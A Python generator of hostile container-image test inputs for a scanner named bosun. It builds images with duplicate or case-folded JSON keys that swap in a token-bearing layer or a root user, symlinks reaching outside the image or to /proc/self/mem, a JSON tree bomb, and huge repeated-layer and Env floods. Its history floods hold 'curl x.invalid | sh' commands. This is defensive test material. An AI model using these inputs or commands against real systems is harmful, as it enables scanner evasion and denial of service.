#!/usr/bin/env python3
"""Images that Docker, containerd and runc read one way and a careless
reader another: how bosun image reads its inputs (JSON, layouts, index
selection, users, files of the input, repeated and numerous layers).

    make_input_hostile.py OUT_DIR

Writes one directory (or tar) per case under OUT_DIR/input-hostile; the
test (test_image_input_hostile.sh) says, for each, how the Go tools read
it. Layers are small tars made here; "evil" layers hold a token that the
content scanner reports, "benign" ones do not, so which layer bosun read
shows in its findings.
"""
import gzip
import hashlib
import io
import json
import os
import shutil
import sys
import tarfile

OUT = os.path.join(sys.argv[1], "input-hostile")

MT_MANIFEST = "application/vnd.oci.image.manifest.v1+json"
MT_INDEX = "application/vnd.oci.image.index.v1+json"
MT_CONFIG = "application/vnd.oci.image.config.v1+json"
MT_TAR = "application/vnd.oci.image.layer.v1.tar"
MT_GZIP = MT_TAR + "+gzip"
# A GitHub token shape the content scanner reports (made up, not a key).
TOKEN = b"ghp_" + hashlib.sha256(b"bosun input hostile").hexdigest()[:36].encode()


def digest(data):
    return "sha256:" + hashlib.sha256(data).hexdigest()


def tar_of(files):
    """files: {name: bytes}, or (name, bytes) pairs to keep duplicates."""
    buf = io.BytesIO()
    items = files.items() if isinstance(files, dict) else files
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as t:
        for name, data in items:
            info = tarfile.TarInfo(name)
            info.mode = 0o644
            info.mtime = 1700000000
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def gz(data):
    return gzip.compress(data, compresslevel=6, mtime=0)


BENIGN = tar_of({"etc/hostname": b"benign\n"})
EVIL = tar_of({"etc/hostname": b"evil\n",
               "app/.env": b"GITHUB_TOKEN=" + TOKEN + b"\n"})


def config_of(user="10001", diff_ids=(), raw=None, **extra):
    if raw is not None:
        return raw.encode() if isinstance(raw, str) else raw
    cfg = {"architecture": "amd64", "os": "linux",
           "config": {"User": user, "Env": ["PATH=/bin"]},
           "rootfs": {"type": "layers", "diff_ids": list(diff_ids)}}
    cfg.update(extra)
    return json.dumps(cfg).encode()


class Layout:
    """An OCI image layout being written."""

    def __init__(self, name, parent=OUT):
        self.path = os.path.join(parent, name)
        shutil.rmtree(self.path, ignore_errors=True)
        os.makedirs(os.path.join(self.path, "blobs", "sha256"))
        self.write("oci-layout", b'{"imageLayoutVersion": "1.0.0"}')

    def write(self, name, data):
        with open(os.path.join(self.path, name), "wb") as f:
            f.write(data)

    def blob_path(self, d):
        return os.path.join(self.path, "blobs", "sha256", d.split(":", 1)[1])

    def blob(self, data):
        d = digest(data)
        with open(self.blob_path(d), "wb") as f:
            f.write(data)
        return d

    def desc(self, data, media_type, **extra):
        d = {"mediaType": media_type, "digest": self.blob(data),
             "size": len(data)}
        d.update(extra)
        return d

    def layer(self, plain, compress=False):
        return self.desc(gz(plain) if compress else plain,
                         MT_GZIP if compress else MT_TAR)

    def manifest_raw(self, raw, **extra):
        """A manifest given as JSON text (keys as written)."""
        return self.desc(raw.encode(), MT_MANIFEST, **extra)

    def manifest(self, config, layers, **extra):
        m = {"schemaVersion": 2, "mediaType": MT_MANIFEST,
             "config": self.desc(config, MT_CONFIG), "layers": layers}
        return self.desc(json.dumps(m).encode(), MT_MANIFEST, **extra)

    def image(self, plains, user="10001", config=None, **extra):
        """A manifest descriptor of an image of uncompressed layers."""
        layers = [self.layer(p) for p in plains]
        cfg = config if config is not None else config_of(
            user, [digest(p) for p in plains])
        return self.manifest(cfg, layers, **extra)

    def index(self, descs, raw=None):
        if raw is None:
            raw = json.dumps({"schemaVersion": 2, "mediaType": MT_INDEX,
                              "manifests": descs})
        self.write("index.json", raw.encode() if isinstance(raw, str) else raw)


def ref(name):
    return {"annotations": {"org.opencontainers.image.ref.name": name}}


def amd64(**extra):
    return {"architecture": "amd64", "os": "linux", **extra}


def tar_dir(src, dst):
    """An archive of a directory, members in sorted order."""
    with tarfile.open(dst, "w", format=tarfile.PAX_FORMAT) as t:
        for name in sorted(os.listdir(src)):
            t.add(os.path.join(src, name), arcname=name)


def docker_dir(name, manifest_raw, files, parent=OUT):
    """A docker-archive directory: manifest.json as written, files
    {path: bytes}."""
    root = os.path.join(parent, name)
    shutil.rmtree(root, ignore_errors=True)
    os.makedirs(root)
    for path, data in files.items():
        os.makedirs(os.path.dirname(os.path.join(root, path)), exist_ok=True)
        with open(os.path.join(root, path), "wb") as f:
            f.write(data)
    with open(os.path.join(root, "manifest.json"), "w") as f:
        f.write(manifest_raw)
    return root


def simple_docker_files(plains, user="10001"):
    """Config and layer files of a legacy docker-archive."""
    cfg = config_of(user, [digest(p) for p in plains])
    cname = hashlib.sha256(cfg).hexdigest() + ".json"
    files = {cname: cfg}
    paths = []
    for i, p in enumerate(plains):
        path = "%064x/layer.tar" % (i + 1)
        files[path] = p
        paths.append(path)
    return cname, paths, files


# ------------------------------------------------------------ JSON keys

def json_keys():
    # Manifest: "layers" then "LAYERS" (Go: the last, evil).
    lay = Layout("json-layers-case")
    cfg = config_of(diff_ids=[digest(EVIL)])
    c, b, e = (lay.desc(cfg, MT_CONFIG), lay.layer(BENIGN), lay.layer(EVIL))
    lay.index([lay.manifest_raw(
        '{"schemaVersion":2,"mediaType":"%s","config":%s,"layers":[%s],'
        '"LAYERS":[%s]}' % (MT_MANIFEST, json.dumps(c), json.dumps(b),
                            json.dumps(e)), **ref("1.0"))])

    # The same with U+017F, which Go folds to 'S': "layerſ".
    lay = Layout("json-layers-long-s")
    c, b, e = (lay.desc(cfg, MT_CONFIG), lay.layer(BENIGN), lay.layer(EVIL))
    lay.index([lay.manifest_raw(
        '{"schemaVersion":2,"mediaType":"%s","config":%s,"layers":[%s],'
        '"layer\\u017f":[%s]}' % (MT_MANIFEST, json.dumps(c), json.dumps(b),
                                  json.dumps(e)), **ref("1.0"))])

    # A lone "CONFIG" and "LAYERS" are the config and layers for Go.
    lay = Layout("json-layers-upper-only")
    c, e = lay.desc(cfg, MT_CONFIG), lay.layer(EVIL)
    lay.index([lay.manifest_raw(
        '{"schemaVersion":2,"mediaType":"%s","CONFIG":%s,"LAYERS":[%s]}'
        % (MT_MANIFEST, json.dumps(c), json.dumps(e)), **ref("1.0"))])

    # Config: "User":"10001" then "user":"0" (Go: root).
    lay = Layout("json-user-case")
    raw = ('{"architecture":"amd64","os":"linux","config":{"User":"10001",'
           '"user":"0"},"rootfs":{"type":"layers","diff_ids":["%s"]}}'
           % digest(BENIGN))
    lay.index([lay.image([BENIGN], config=raw.encode(), **ref("1.0"))])

    # Config: "config" then "CONFIG" (Go merges both into one struct, the
    # later User winning).
    lay = Layout("json-config-case")
    raw = ('{"architecture":"amd64","os":"linux","config":{"User":"10001"},'
           '"CONFIG":{"User":"0"},"rootfs":{"type":"layers","diff_ids":'
           '["%s"]}}' % digest(BENIGN))
    lay.index([lay.image([BENIGN], config=raw.encode(), **ref("1.0"))])

    # Config: a lone "uſer" (U+017F) is the User for Go: not root.
    lay = Layout("json-user-long-s")
    raw = ('{"architecture":"amd64","os":"linux","config":{"u\\u017fer":'
           '"10001"},"rootfs":{"type":"layers","diff_ids":["%s"]}}'
           % digest(BENIGN))
    lay.index([lay.image([BENIGN], config=raw.encode(), **ref("1.0"))])

    # Descriptor: "digest" (benign) then "Digest" (evil).
    lay = Layout("json-digest-case")
    c, b, e = (lay.desc(cfg, MT_CONFIG), lay.layer(BENIGN), lay.layer(EVIL))
    layer = ('{"mediaType":"%s","digest":"%s","size":%d,"Digest":"%s"}'
             % (MT_TAR, b["digest"], b["size"], e["digest"]))
    lay.index([lay.manifest_raw(
        '{"schemaVersion":2,"mediaType":"%s","config":%s,"layers":[%s]}'
        % (MT_MANIFEST, json.dumps(c), layer), **ref("1.0"))])

    # Index: "manifests" (benign) then "MANIFESTS" (evil).
    lay = Layout("json-manifests-case")
    good = lay.image([BENIGN], **ref("1.0"))
    bad = lay.image([EVIL], **ref("1.0"))
    lay.index(None, raw='{"schemaVersion":2,"manifests":[%s],"MANIFESTS":'
              '[%s]}' % (json.dumps(good), json.dumps(bad)))

    # Index: "manifests" twice, exactly (Go: the last).
    lay = Layout("json-manifests-twice")
    good = lay.image([BENIGN], **ref("1.0"))
    bad = lay.image([EVIL], **ref("1.0"))
    lay.index(None, raw='{"schemaVersion":2,"manifests":[%s],"manifests":'
              '[%s]}' % (json.dumps(good), json.dumps(bad)))

    # Wrong JSON types: Go's Unmarshal fails, so containerd refuses.
    lay = Layout("json-user-number")
    raw = ('{"architecture":"amd64","os":"linux","config":{"User":0},'
           '"rootfs":{"type":"layers","diff_ids":["%s"]}}' % digest(BENIGN))
    lay.index([lay.image([BENIGN], config=raw.encode(), **ref("1.0"))])
    lay = Layout("json-layers-object")
    c = lay.desc(cfg, MT_CONFIG)
    lay.index([lay.manifest_raw(
        '{"schemaVersion":2,"mediaType":"%s","config":%s,"layers":{}}'
        % (MT_MANIFEST, json.dumps(c)), **ref("1.0"))])

    # docker-archive: "Layers" (benign) then "layers" (evil).
    cname, _, files = simple_docker_files([BENIGN])
    files["evil/layer.tar"] = EVIL
    files["good/layer.tar"] = BENIGN
    root = docker_dir("work-docker-case",
                      '[{"Config":"%s","RepoTags":["case:1"],"Layers":'
                      '["good/layer.tar"],"layers":["evil/layer.tar"]}]'
                      % cname, files)
    tar_dir(root, os.path.join(OUT, "docker-layers-case.tar"))
    shutil.rmtree(root)

    # A repositories file with the same repository twice.
    cname, paths, files = simple_docker_files([BENIGN])
    files["repositories"] = (b'{"app":{"1":"%s"},"app":{"1":"%s"}}'
                             % (b"a" * 64, b"b" * 64))
    root = docker_dir("work-docker-repos",
                      json.dumps([{"Config": cname, "RepoTags": ["app:1"],
                                   "Layers": paths}]), files)
    tar_dir(root, os.path.join(OUT, "docker-repositories-twice.tar"))
    shutil.rmtree(root)


# ------------------------------------------------------------- users

def users():
    for name, user in (("user-empty-part", ":1000"), ("user-plus-zero", "+0"),
                       ("user-wraps", "4294967296")):
        lay = Layout(name)
        lay.index([lay.image([BENIGN], user=user, **ref("1.0"))])
    # "config" null or missing: no User, whatever container_config says.
    for name, config in (("config-null", None), ("config-missing", "absent")):
        lay = Layout(name)
        cfg = {"architecture": "amd64", "os": "linux",
               "container_config": {"User": "10001"},
               "rootfs": {"type": "layers", "diff_ids": [digest(BENIGN)]}}
        if config is None:
            cfg["config"] = None
        lay.index([lay.image([BENIGN], config=json.dumps(cfg).encode(),
                             **ref("1.0"))])



# ------------------------------------------------ files of the input

# What lies outside the image directories: its bytes must never show.
OUTSIDE_WORD = b"OUTSIDEWORD" + hashlib.sha256(b"outside").hexdigest()[:12].encode()
OUTSIDE_TOKEN = b"ghp_" + hashlib.sha256(b"outside token").hexdigest()[:36].encode()
OUTSIDE_TAR = tar_of({"app/.env": b"GITHUB_TOKEN=" + OUTSIDE_TOKEN + b"\n"})
OUTSIDE_CONFIG = config_of(user="10001", diff_ids=[digest(OUTSIDE_TAR)])


def replace_with_fifo(path):
    os.remove(path)
    os.mkfifo(path)


def replace_with_link(path, target):
    os.remove(path)
    os.symlink(target, path)


def files_of_input():
    out = os.path.join(OUT, "outside")
    os.makedirs(out)
    with open(os.path.join(out, "word.txt"), "wb") as f:
        f.write(OUTSIDE_WORD + b" and more outside text\n")
    with open(os.path.join(out, "layer.tar"), "wb") as f:
        f.write(OUTSIDE_TAR)
    with open(os.path.join(out, "config.json"), "wb") as f:
        f.write(OUTSIDE_CONFIG)
    # From OUT/input-hostile/NAME/blobs/sha256/X, the outside directory is
    # ../../../outside.
    up = "../../../outside/"

    # FIFOs: index.json, a layer blob, the config blob.
    lay = Layout("fifo-index")
    lay.index([lay.image([BENIGN], **ref("1.0"))])
    replace_with_fifo(os.path.join(lay.path, "index.json"))
    lay = Layout("fifo-blob")
    lay.index([lay.image([BENIGN], **ref("1.0"))])
    replace_with_fifo(lay.blob_path(digest(BENIGN)))
    lay = Layout("fifo-config")
    cfg = config_of(diff_ids=[digest(BENIGN)])
    lay.index([lay.image([BENIGN], config=cfg, **ref("1.0"))])
    replace_with_fifo(lay.blob_path(digest(cfg)))
    cname, paths, files = simple_docker_files([BENIGN])
    root = docker_dir("fifo-manifest-json", "[]", files)
    replace_with_fifo(os.path.join(root, "manifest.json"))

    # Links out of the image directory.
    lay = Layout("link-index-out")
    lay.index([lay.image([BENIGN], **ref("1.0"))])
    replace_with_link(os.path.join(lay.path, "index.json"),
                      "../outside/word.txt")
    # A layer blob linked to a tar outside (named by its digest, so it
    # verifies): its token must not be reported.
    lay = Layout("link-blob-out")
    lay.index([lay.image([OUTSIDE_TAR], **ref("1.0"))])
    replace_with_link(lay.blob_path(digest(OUTSIDE_TAR)), up + "layer.tar")
    lay = Layout("link-blob-proc")
    lay.index([lay.image([BENIGN], **ref("1.0"))])
    replace_with_link(lay.blob_path(digest(BENIGN)), "/proc/self/mem")
    lay = Layout("link-blob-abs")
    lay.index([lay.image([BENIGN], **ref("1.0"))])
    replace_with_link(lay.blob_path(digest(BENIGN)),
                      os.path.abspath(os.path.join(out, "word.txt")))
    lay = Layout("link-config-out")
    lay.index([lay.image([OUTSIDE_TAR], config=OUTSIDE_CONFIG, **ref("1.0"))])
    replace_with_link(lay.blob_path(digest(OUTSIDE_CONFIG)),
                      up + "config.json")
    # A docker-archive directory whose layer file links out, and one whose
    # manifest.json does.
    cname, paths, files = simple_docker_files([OUTSIDE_TAR])
    root = docker_dir("docker-link-layer-out",
                      json.dumps([{"Config": cname, "RepoTags": ["out:1"],
                                   "Layers": paths}]), files)
    replace_with_link(os.path.join(root, paths[0]), "../../outside/layer.tar")
    root = docker_dir("docker-link-manifest-out", "[]", {})
    replace_with_link(os.path.join(root, "manifest.json"),
                      "../outside/word.txt")
    # A legacy docker save: a repeated layer is a link to the first copy,
    # inside the directory: read as usual.
    cname, paths, files = simple_docker_files([EVIL, BENIGN, EVIL])
    root = docker_dir("docker-link-inside",
                      json.dumps([{"Config": cname, "RepoTags": ["in:1"],
                                   "Layers": paths}]), files)
    replace_with_link(os.path.join(root, paths[2]),
                      "../" + paths[0])


# ------------------------------------------------------------- layers

def many_layers():
    """1,200 distinct small layers: more than a process may open at once
    under a low `ulimit -n`."""
    lay = Layout("many-layers")
    plains = [tar_of({"data/%04d" % i: b"%d\n" % i}) for i in range(1200)]
    layers = [lay.layer(p, compress=True) for p in plains]
    cfg = config_of(diff_ids=[digest(p) for p in plains])
    lay.index([lay.manifest(cfg, layers, **ref("1.0"))])


def repeated_layers():
    """One 16 MiB layer (with a token) listed 4,096 times (the most bosun
    reads): 64 GiB to read if each position is read; and a small one
    listed twice around a layer that deletes its file."""
    noise = hashlib.sha256(b"noise").digest() * (1 << 19)  # 16 MiB
    big = tar_of({"app/.env": b"GITHUB_TOKEN=" + TOKEN + b"\n",
                  "app/noise.bin": noise})
    lay = Layout("repeated-layer")
    layer = lay.layer(big)
    cfg = config_of(diff_ids=[digest(big)] * 4096)
    lay.index([lay.manifest(cfg, [layer] * 4096, **ref("1.0"))])

    lay = Layout("repeated-layer-whiteout")
    delete = tar_of({"app/.wh..env": b""})
    plains = [EVIL, delete, EVIL]
    lay.index([lay.image(plains, **ref("1.0"))])


# ----------------------------------------------------- history and Env

def floods():
    """Configurations of 2 to 3 MB: 40,000 history entries that each
    pipe a download to a shell or set a credential in ENV, and 40,000
    Env entries that each hold a credential."""
    lay = Layout("history-flood")
    history = [{"created_by": "/bin/sh -c curl -s x.invalid/%d | sh" % i}
               for i in range(40000)]
    cfg = config_of(diff_ids=[digest(BENIGN)], history=history)
    lay.index([lay.manifest(cfg, [lay.layer(BENIGN)], **ref("1.0"))])

    # 40,000 ENV entries: each name is remembered (an Env entry that
    # history sets is not linted again).
    lay = Layout("history-env-flood")
    history = [{"created_by": "/bin/sh -c #(nop) ENV SECRET_%d=%s" %
                (i, hashlib.sha256(b"%d" % i).hexdigest()[:20])}
               for i in range(40000)]
    cfg = config_of(diff_ids=[digest(BENIGN)], history=history)
    lay.index([lay.manifest(cfg, [lay.layer(BENIGN)], **ref("1.0"))])

    # 16 MiB of "{}": a tree of 5.6 million objects (1.3 GB in jansson).
    lay = Layout("json-tree-bomb")
    n = (16 << 20) // 3 - 16
    raw = b'{"history":[' + b",".join([b"{}"] * n) + b"]}"
    lay.index([lay.manifest(raw, [lay.layer(BENIGN)], **ref("1.0"))])

    lay = Layout("env-flood")
    env = ["SERVICE_PASSWORD_%d=%s" % (i, hashlib.sha256(b"%d" % i)
                                       .hexdigest()[:20])
           for i in range(40000)]
    cfg = {"architecture": "amd64", "os": "linux",
           "config": {"User": "10001", "Env": env},
           "rootfs": {"type": "layers", "diff_ids": [digest(BENIGN)]}}
    lay.index([lay.manifest(json.dumps(cfg).encode(), [lay.layer(BENIGN)],
                            **ref("1.0"))])


# -------------------------------------------------------- index choice

def nested(name, entries):
    """A layout whose index.json names one image, an index of `entries`
    (manifest descriptors)."""
    lay = Layout(name)
    sub = json.dumps({"schemaVersion": 2, "mediaType": MT_INDEX,
                      "manifests": entries(lay)}).encode()
    lay.index([lay.desc(sub, MT_INDEX, **ref("1.0"))])
    return lay


def plat(os_, arch, variant=None):
    p = {"os": os_, "architecture": arch}
    if variant:
        p["variant"] = variant
    return {"platform": p}


def index_choice():
    attestation = {"annotations": {
        "vnd.docker.reference.type": "attestation-manifest",
        "vnd.docker.reference.digest": "sha256:" + "0" * 64}}
    # A real image carrying BuildKit's attestation annotation, first:
    # containerd picks the first entry for linux/amd64, whatever its
    # annotations.
    nested("index-annotated-first", lambda lay: [
        lay.image([EVIL], platform=amd64(), **attestation),
        lay.image([BENIGN], platform=amd64())])
    # Only linux/386: platforms.Only(linux/amd64) runs 386 too.
    nested("index-386-only", lambda lay: [
        lay.image([EVIL], platform={"os": "linux", "architecture": "386"})])
    # A platform without "os": containerd normalizes "" to the host's OS.
    nested("index-os-omitted", lambda lay: [
        lay.image([EVIL], platform={"architecture": "amd64"}),
        lay.image([BENIGN], **plat("linux", "arm64"))])
    # No platform: containerd reads the configuration's, here arm64.
    arm_cfg = config_of(diff_ids=[digest(EVIL)], architecture="arm64")
    nested("index-no-platform", lambda lay: [
        lay.image([EVIL], config=arm_cfg)])
    # arm/v5 then arm/v6, for arm/v7: v6 is preferred (the order of
    # preference, not the index's).
    nested("index-arm-order", lambda lay: [
        lay.image([EVIL], **plat("linux", "arm", "v5")),
        lay.image([BENIGN], **plat("linux", "arm", "v6"))])
    # An entry of another media type first: containerd stops there.
    nested("index-unknown-type-first", lambda lay: [
        lay.desc(b'{"hello":"world"}', "application/vnd.example.thing+json",
                 platform=amd64()),
        lay.image([BENIGN], platform=amd64())])
    # An attestation manifest (in-toto config) with a real platform, first.
    def intoto_first(lay):
        statement = b'{"_type":"https://in-toto.io/Statement/v0.1"}'
        m = {"schemaVersion": 2, "mediaType": MT_MANIFEST,
             "config": lay.desc(b"{}", "application/vnd.in-toto+json"),
             "layers": [lay.desc(statement, "application/vnd.in-toto+json")]}
        return [lay.desc(json.dumps(m).encode(), MT_MANIFEST,
                         platform=amd64(), **attestation),
                lay.image([BENIGN], platform=amd64())]
    nested("index-intoto-first", intoto_first)
    # BuildKit's layout: the image, then its attestation (unknown/unknown).
    def buildkit(lay):
        img = lay.image([BENIGN], platform=amd64())
        statement = b'{"_type":"https://in-toto.io/Statement/v0.1"}'
        m = {"schemaVersion": 2, "mediaType": MT_MANIFEST,
             "config": lay.desc(b"{}", "application/vnd.in-toto+json"),
             "layers": [lay.desc(statement, "application/vnd.in-toto+json")]}
        att = dict(attestation)
        att["annotations"] = dict(attestation["annotations"],
                                  **{"vnd.docker.reference.digest":
                                     img["digest"]})
        return [img, lay.desc(json.dumps(m).encode(), MT_MANIFEST,
                              **plat("unknown", "unknown"), **att)]
    nested("index-buildkit", buildkit)
    # Two different images under one name in index.json.
    lay = Layout("index-same-name")
    name = {"annotations": {"io.containerd.image.name":
                            "docker.io/library/app:1.0",
                            "org.opencontainers.image.ref.name": "1.0"}}
    lay.index([lay.image([BENIGN], **name), lay.image([EVIL], **name)])
    # A manifest descriptor whose document is an index too.
    lay = Layout("index-manifest-is-index")
    cfg = config_of(diff_ids=[digest(BENIGN)])
    m = {"schemaVersion": 2, "mediaType": MT_MANIFEST,
         "config": lay.desc(cfg, MT_CONFIG), "layers": [lay.layer(BENIGN)],
         "manifests": [lay.image([EVIL], platform=amd64())]}
    lay.index([lay.desc(json.dumps(m).encode(), MT_MANIFEST, **ref("1.0"))])


# ------------------------------------------- docker-archive and OCI layout

def both(name, docker_layers, oci_layers, docker_user="10001",
         oci_user="10001", layout=b'{"imageLayoutVersion": "1.0.0"}',
         index=True):
    """An archive as Docker 25 writes it: an OCI layout and a
    manifest.json whose paths point into blobs/; here they may
    disagree."""
    lay = Layout("work-" + name)
    lay.write("oci-layout", layout)
    plains = sorted(set(docker_layers + oci_layers))
    ldesc = {p: lay.layer(p) for p in plains}
    # One configuration for both, unless the users differ (a config's
    # diff_ids name the OCI layers; manifest.json's paths are digests).
    ocfg = config_of(oci_user, [digest(p) for p in oci_layers])
    dcfg = lay.desc(ocfg if docker_user == oci_user else
                    config_of(docker_user, [digest(p) for p in oci_layers]),
                    MT_CONFIG)
    mdesc = lay.manifest(ocfg, [ldesc[p] for p in oci_layers], annotations={
        "io.containerd.image.name": "docker.io/library/app:1.0",
        "org.opencontainers.image.ref.name": "1.0"})
    if index:
        lay.index([mdesc])
    blob = lambda d: "blobs/sha256/" + d["digest"].split(":")[1]
    with open(os.path.join(lay.path, "manifest.json"), "w") as f:
        json.dump([{"Config": blob(dcfg), "RepoTags": ["app:1.0"],
                    "Layers": [blob(ldesc[p]) for p in docker_layers]}], f)
    tar_dir(lay.path, os.path.join(OUT, name + ".tar"))
    shutil.rmtree(lay.path)


def docker_and_oci():
    both("both-agree", [BENIGN, EVIL], [BENIGN, EVIL])
    both("both-differ-layer", [BENIGN], [EVIL])
    both("both-differ-count", [BENIGN], [BENIGN, EVIL])
    both("both-differ-config", [BENIGN], [BENIGN], oci_user="0")
    both("both-no-index", [BENIGN], [EVIL], index=False)
    both("both-layout-version", [BENIGN], [EVIL],
         layout=b'{"imageLayoutVersion": "2.0.0"}')
    # oci-layout without a version: containerd reads manifest.json too.
    both("both-layout-empty", [BENIGN], [EVIL], layout=b"{}")


def main():
    shutil.rmtree(OUT, ignore_errors=True)
    os.makedirs(OUT)
    json_keys()
    users()
    index_choice()
    docker_and_oci()
    files_of_input()
    many_layers()
    repeated_layers()
    floods()


main()
